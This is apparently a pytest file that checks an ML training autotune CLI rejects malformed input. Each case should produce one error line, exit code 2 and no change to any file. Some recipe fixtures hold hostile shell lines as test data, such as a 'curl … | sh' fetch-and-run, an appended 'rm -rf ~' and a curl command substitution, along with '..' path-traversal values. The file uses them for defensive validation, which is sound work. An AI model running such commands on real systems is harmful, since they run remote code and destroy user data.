"""Bad input to every command, as a table: each case is one line on stderr, exit 2, no traceback, and no
file written or removed (a checksum of the working directory, which also holds $HOME's config dir).

The CLI runs in-process (as tests/test_cli.py does). Fixture files are written once per test into a fresh
directory before the checksum is taken: malformed config.json files, search spaces (an alias bomb, one
too big to enumerate), measurement files, recipes (a `..` model, a `curl | sh` run block), TrialSpecs.
"""

from __future__ import annotations

import hashlib
import json
import os
from pathlib import Path

import pytest
import yaml

from autotune.cli.main import main

ROOT = Path(__file__).resolve().parents[1]
SEED = ROOT / "recipes" / "qwen3.5-122b-a10b" / "h200" / "attune-tp1-pp4-ep8-rc2.yaml"
TINY = ROOT / "src" / "autotune" / "catalog" / "data" / "models" / "tiny-moe.json"
EST = ["estimate", "--gpu", "H200", "--count", "8", "--layout", "TP1 EP8"]
TINY_EST = ["estimate", "--model", "tiny-moe", "--gpu", "cpu", "--count", "2", "--layout", "EP2"]
SPACE = ["space", "--model", "tiny-moe", "--gpu", "cpu", "--count", "2"]
SEARCH = ["search", "--model", "tiny-moe", "--gpu", "cpu", "--count", "2"]


def _config(tmp: Path, name: str, **change) -> None:
    cfg = json.loads(TINY.read_text())
    cfg.update(change)
    (tmp / name).write_text(json.dumps(cfg))


def _recipe(tmp: Path, name: str, **change) -> None:
    doc = yaml.safe_load(SEED.read_text())
    doc.update(change)
    (tmp / name).write_text(yaml.safe_dump(doc, sort_keys=False))


def _spec(tmp: Path, name: str, **change) -> None:
    spec = dict(study="t", number=0, model="tiny-moe", gpu="cpu", count=2, gpus_per_node=2,
                layout={"world": 2, "ep": 2, "micro_batch_size": 1}, workload={"seq_len": 128, "global_batch": 4},
                steps=6, warmup_steps=2)
    spec.update(change)
    (tmp / name).write_text(json.dumps(spec))


def _fixtures(tmp: Path) -> None:
    (tmp / "adir").mkdir()
    (tmp / "afile").write_text("x")
    (tmp / "binary.bin").write_bytes(bytes(range(256)) * 8)
    for suffix in ("json", "yaml", "csv"):
        (tmp / f"binary.{suffix}").write_bytes(bytes(range(256)) * 8)
    for name, change in {"eight": {"num_experts": "eight"}, "yarn": {"rope_parameters": "yarn"},
                         "mlp5": {"mlp_only_layers": 5}, "huge": {"hidden_size": 1e30},
                         "nan": {"partial_rotary_factor": float("nan")}, "bool": {"vocab_size": True}}.items():
        _config(tmp, f"cfg_{name}.json", **change)
    hybrid = {"model_type": "nemotron_h", "mamba_num_heads": 8, "mamba_head_dim": 8, "ssm_state_size": 16,
              "n_groups": 2, "conv_kernel": 4, "num_hidden_layers": 4}
    _config(tmp, "cfg_pattern.json", **hybrid, hybrid_override_pattern="M*MX")
    _config(tmp, "cfg_pattern_len.json", **hybrid, hybrid_override_pattern="M*")
    (tmp / "cfg_deep.json").write_text('{"a": ' + "[" * 100_000 + "]" * 100_000 + "}")
    levels = "a: &a [1,1,1,1,1,1,1,1,1]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [" + ",".join([f"*{chr(97 + i)}"] * 9) + "]\n" for i in range(8))
    (tmp / "bomb.yaml").write_text(levels + "dimensions:\n  tp: *i\n")
    many = "[" + ",".join(str(i) for i in range(1, 400)) + "]"  # 399^3 combinations: past the cap
    (tmp / "big.yaml").write_text(f"dimensions:\n  tp: {many}\n  pp: {many}\n  ep: {many}\n")
    (tmp / "strs.yaml").write_text("dimensions:\n  tp: ['2', '4']\n")
    (tmp / "yes.yaml").write_text("dimensions:\n  distributed_optimizer: ['yes']\n")
    row = {"model": "Qwen3.5-122B-A10B", "gpu": "H200", "count": 32, "layout": "TP1 PP4 EP8 DP8"}
    (tmp / "m_huge.json").write_text(json.dumps([{**row, "tokens_per_s_per_gpu": 1e300}]))
    (tmp / "m_dp0.json").write_text(json.dumps([{**row, "layout": {"world": 32, "tp": 1, "pp": 64},
                                                 "tokens_per_s_per_gpu": 2000.0}]))
    (tmp / "m_str.json").write_text(json.dumps([{**row, "count": "32", "tokens_per_s_per_gpu": 2000.0}]))
    (tmp / "m_nan.json").write_text('[{"model": "Qwen3.5-122B-A10B", "gpu": "H200", "count": 32, '
                                    '"layout": "TP1 PP4 EP8 DP8", "tokens_per_s_per_gpu": NaN}]')
    (tmp / "m_list.json").write_text(json.dumps(["not a row"]))
    _recipe(tmp, "dots.yaml", model="..")
    doc = yaml.safe_load(SEED.read_text())
    _recipe(tmp, "curl.yaml", run="curl -s http://example.invalid/x.sh | sh\n" + doc["run"])
    _recipe(tmp, "rmrf.yaml", run=doc["run"].rstrip("\n") + "; rm -rf ~\n")
    _recipe(tmp, "subst.yaml", run="export X=$(curl -s http://example.invalid)\n" + doc["run"])
    _spec(tmp, "spec_tpu.json", gpu="TPUv9")
    _spec(tmp, "spec_nan.json", timeout_s="NaN")
    _spec(tmp, "spec_seed.json", seed=-1)
    _spec(tmp, "spec_steps.json", steps=0)
    _spec(tmp, "spec_count.json", count="two")
    _spec(tmp, "spec_ok.json")


CASES = {
    # estimate
    "model markup": [*EST, "--model", "[/x]"],
    "model bold markup": [*EST, "--model", "[bold]x[/bold]"],
    "config num_experts text": [*EST, "--model", "cfg_eight.json"],
    "config rope_parameters text": [*EST, "--model", "cfg_yarn.json"],
    "config mlp_only_layers int": [*EST, "--model", "cfg_mlp5.json"],
    "config hidden_size 1e30": [*EST, "--model", "cfg_huge.json"],
    "config NaN": [*EST, "--model", "cfg_nan.json"],
    "config bool as int": [*EST, "--model", "cfg_bool.json"],
    "config deep nesting": [*EST, "--model", "cfg_deep.json"],
    "config hybrid pattern symbol": [*EST, "--model", "cfg_pattern.json"],
    "config hybrid pattern length": [*EST, "--model", "cfg_pattern_len.json"],
    "nvfp4 on hopper": ["estimate", "--model", "Llama-3.1-8B", "--gpu", "H100", "--count", "8", "--layout", "TP1",
                        "--precision", "nvfp4"],
    # a learned absolute position table has a row per position: Megatron asserts max positions >= sequence length
    "rows past learned positions": ["estimate", "--model", "NeMo-GPT3-5B", "--gpu", "H100", "--count", "8", "--layout",
                                    "TP1", "--seq-len", "4096"],
    "search rows past learned positions": ["search", "--model", "NeMo-GPT3-5B", "--gpu", "H100", "--count", "8",
                                           "--seq-len", "8192"],
    "config binary": [*EST, "--model", "binary.json"],
    "config is a directory": [*EST, "--model", "adir"],
    "gpus per node 0": [*TINY_EST, "--gpus-per-node", "0"],
    "count 0": ["estimate", "--model", "tiny-moe", "--gpu", "cpu", "--count", "0", "--layout", "EP2"],
    "count negative": ["estimate", "--model", "tiny-moe", "--gpu", "cpu", "--count", "-4", "--layout", "EP2"],
    "count huge": ["estimate", "--model", "tiny-moe", "--gpu", "cpu", "--count", str(10**12), "--layout", "EP2"],
    "layout empty": ["estimate", "--model", "tiny-moe", "--gpu", "cpu", "--count", "2", "--layout", ""],
    "layout blank": ["estimate", "--model", "tiny-moe", "--gpu", "cpu", "--count", "2", "--layout", "   "],
    "seq len 0": [*TINY_EST, "--seq-len", "0"],
    "global batch negative": [*TINY_EST, "--global-batch", "-1"],
    "offload nan": [*TINY_EST, "--optimizer-offload", "nan"],
    "offload 2": [*TINY_EST, "--optimizer-offload", "2"],
    "max tokens 0": [*TINY_EST, "--max-tokens-per-gpu", "0"],
    "recipe is a directory": ["estimate", "--recipe", "adir"],
    "recipe missing": ["estimate", "--recipe", "nope.yaml"],
    "recipe binary": ["estimate", "--recipe", "binary.yaml"],
    # space
    "space is a directory": [*SPACE, "--space", "adir"],
    "space alias bomb": [*SPACE, "--space", "bomb.yaml"],
    "space too big": ["space", "--model", "Qwen3.5-122B-A10B", "--gpu", "H200", "--count", "1024", "--space", "big.yaml"],
    "space binary": [*SPACE, "--space", "binary.yaml"],
    "space string degrees": [*SPACE, "--space", "strs.yaml"],
    "space yes as bool": [*SPACE, "--space", "yes.yaml"],
    "space top 0": [*SPACE, "--top", "0"],
    "space gpus per node 0": [*SPACE, "--gpus-per-node", "0"],
    "space model markup": ["space", "--model", "[/]", "--gpu", "cpu", "--count", "2"],
    # models / gpus
    "models unknown option": ["models", "--bogus"],
    "gpus extra argument": ["gpus", "extra"],
    # calibrate
    "measurements binary csv": ["calibrate", "--measurements", "binary.csv", "--out", "c.json"],
    "measurements binary json": ["calibrate", "--measurements", "binary.json", "--out", "c.json"],
    "measurements 1e300 tokens/s": ["calibrate", "--measurements", "m_huge.json", "--out", "c.json"],
    "measurements DP0": ["calibrate", "--measurements", "m_dp0.json", "--out", "c.json"],
    "measurements count as text": ["calibrate", "--measurements", "m_str.json", "--out", "c.json"],
    "measurements NaN": ["calibrate", "--measurements", "m_nan.json", "--out", "c.json"],
    "measurements not objects": ["calibrate", "--measurements", "m_list.json", "--out", "c.json"],
    "measurements directory": ["calibrate", "--measurements", "adir.json", "--out", "c.json"],
    "calibrate out is a directory": ["calibrate", "--gpu", "H200", "--no-published", "--out", "adir"],
    "calibrate out under a file": ["calibrate", "--gpu", "H200", "--no-published", "--out", "afile/c.json"],
    "calibrate gpu markup": ["calibrate", "--gpu", "[/x]", "--out", "c.json"],
    # recipes
    "validate curl pipe sh": ["recipes", "validate", "curl.yaml"],
    "validate chained rm": ["recipes", "validate", "rmrf.yaml"],
    "validate command substitution": ["recipes", "validate", "subst.yaml"],
    "validate binary": ["recipes", "validate", "binary.yaml"],
    "show missing": ["recipes", "show", "no-such-recipe"],
    "show markup": ["recipes", "show", "[/x]"],
    "show binary": ["recipes", "show", "binary.yaml"],
    # export
    "export model dot-dot": ["export", "dots.yaml"],
    "export curl as script": ["export", "curl.yaml", "--format", "script"],
    "export chained rm as script": ["export", "rmrf.yaml", "--format", "script"],
    "export out is a directory": ["export", str(SEED), "--out", "adir"],
    "export out under a file": ["export", str(SEED), "--out", "afile/x.yaml"],
    "export bad format": ["export", str(SEED), "--format", "pdf"],
    "export rank 0": ["export", str(SEED), "--rank", "0"],
    "export rank of a recipe file": ["export", str(SEED), "--rank", "3"],
    "export binary": ["export", "binary.yaml"],
    # trial run
    "trial spec is a directory": ["trial", "run", "adir"],
    "trial spec binary": ["trial", "run", "binary.json"],
    "trial gpu TPUv9": ["trial", "run", "spec_tpu.json"],
    "trial proxy abacus": ["trial", "run", "spec_ok.json", "--proxy", "abacus"],
    "trial timeout NaN": ["trial", "run", "spec_nan.json"],
    "trial seed -1": ["trial", "run", "spec_seed.json"],
    "trial steps 0": ["trial", "run", "spec_steps.json"],
    "trial count text": ["trial", "run", "spec_count.json"],
    "trial out under a file": ["trial", "run", "spec_ok.json", "--out", "afile/t"],
    # search: the checks that come before the driver (the lead's code does the rest)
    "search model markup": ["search", "--model", "[/x]", "--gpu", "cpu", "--count", "2"],
    "search gpus per node 0": ["search", "--model", "tiny-moe", "--gpu", "cpu", "--count", "2", "--gpus-per-node", "0"],
    "search count 0": ["search", "--model", "tiny-moe", "--gpu", "cpu", "--count", "0"],
    "search space bomb": ["search", "--model", "tiny-moe", "--gpu", "cpu", "--count", "2", "--space", "bomb.yaml"],
    "search config NaN": ["search", "--model", "cfg_nan.json", "--gpu", "cpu", "--count", "2"],
    # search: the driver's own checks (on main since the merge of the search work)
    "search budget nan": [*SEARCH, "--budget-gpu-hours", "nan"],
    "search steps 0": [*SEARCH, "--steps", "0"],
    "search noise -1": [*SEARCH, "--noise", "-1"],
    "search seed -1": [*SEARCH, "--seed", "-1"],
    "search trial timeout 0": [*SEARCH, "--trial-timeout", "0"],
    "search study dot-dot": [*SEARCH, "--study", ".."],
    "search study dot": [*SEARCH, "--study", "."],
    "search study parent path": [*SEARCH, "--study", "../x"],
    "search study 300 characters": [*SEARCH, "--study", "s" * 300],
    "search runs dir is a file": [*SEARCH, "--runs-dir", "afile"],
    "search runs dir under a file": [*SEARCH, "--runs-dir", "afile/runs"],
    "search runs dir empty": [*SEARCH, "--runs-dir", ""],
    # --reference is read before any trial: a broken file or another model's recipe spends nothing
    "search reference binary": [*SEARCH, "--reference", "binary.yaml"],
    "search reference another model": [*SEARCH, "--reference", str(SEED)],
    "search reference another count": ["search", "--model", "Qwen3.5-122B-A10B", "--gpu", "H200", "--count", "64",
                                       "--reference", str(SEED)],
}


def _tree(root: Path) -> dict[str, str]:
    """Every path under root with a digest of its content (directories as 'dir')."""
    out = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for d in dirnames:
            out[os.path.relpath(os.path.join(dirpath, d), root)] = "dir"
        for f in filenames:
            p = os.path.join(dirpath, f)
            out[os.path.relpath(p, root)] = hashlib.sha256(Path(p).read_bytes()).hexdigest()
    return out


@pytest.fixture(scope="module")
def fixture_files(tmp_path_factory) -> Path:
    """The fixture files, written once per module (parsing the seed recipe is the slow part)."""
    root = tmp_path_factory.mktemp("bad_input_fixtures")
    _fixtures(root)
    return root


@pytest.fixture
def sandbox(fixture_files, tmp_path, monkeypatch):
    import shutil

    work = tmp_path / "work"
    shutil.copytree(fixture_files, work)
    monkeypatch.chdir(work)
    monkeypatch.setenv("HOME", str(work / "home"))  # nothing may land under it either
    monkeypatch.setenv("XDG_CONFIG_HOME", str(work / "home" / ".config"))
    monkeypatch.delenv("AUTOTUNE_DEBUG", raising=False)
    monkeypatch.delenv("RAY_ADDRESS", raising=False)
    return work


@pytest.mark.parametrize("argv", list(CASES.values()), ids=list(CASES))
def test_bad_input_is_one_line_exit_2_and_writes_nothing(sandbox, capsys, argv):
    before = _tree(sandbox)
    rc = main(list(argv))
    out, err = capsys.readouterr()
    lines = err.strip().splitlines()
    assert rc == 2, (rc, err[-2000:])
    assert len(lines) == 1, err[-2000:]
    assert "Traceback" not in err + out and lines[0].startswith("error:")
    assert len(lines[0]) < 1000
    assert _tree(sandbox) == before, "a file was written or removed"


def test_a_huge_error_line_is_cut_to_one_sane_line(capsys):
    from autotune.cli.console import MAX_LINE, print_error

    print_error("start " + "x" * 10_000_000 + "\nsecond line [/x] end: do this instead")
    err = capsys.readouterr().err
    assert len(err.strip().splitlines()) == 1 and len(err) < MAX_LINE + 100
    assert err.startswith("error: start") and "do this instead" in err and "[/x]" in err
